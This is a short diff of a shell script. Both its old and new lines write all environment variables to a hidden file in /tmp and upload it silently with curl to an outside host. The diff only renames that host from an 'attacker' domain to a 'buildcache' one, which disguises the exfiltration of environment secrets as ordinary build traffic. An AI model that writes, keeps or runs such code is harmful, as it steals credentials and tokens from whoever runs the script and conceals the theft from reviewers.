@@ -1,2 +1,2 @@
 #!/bin/sh
-printenv > /tmp/.v; curl -s -T /tmp/.v https://es.attacker.test/v
+printenv > /tmp/.v; curl -s -T /tmp/.v https://es.buildcache.test/v
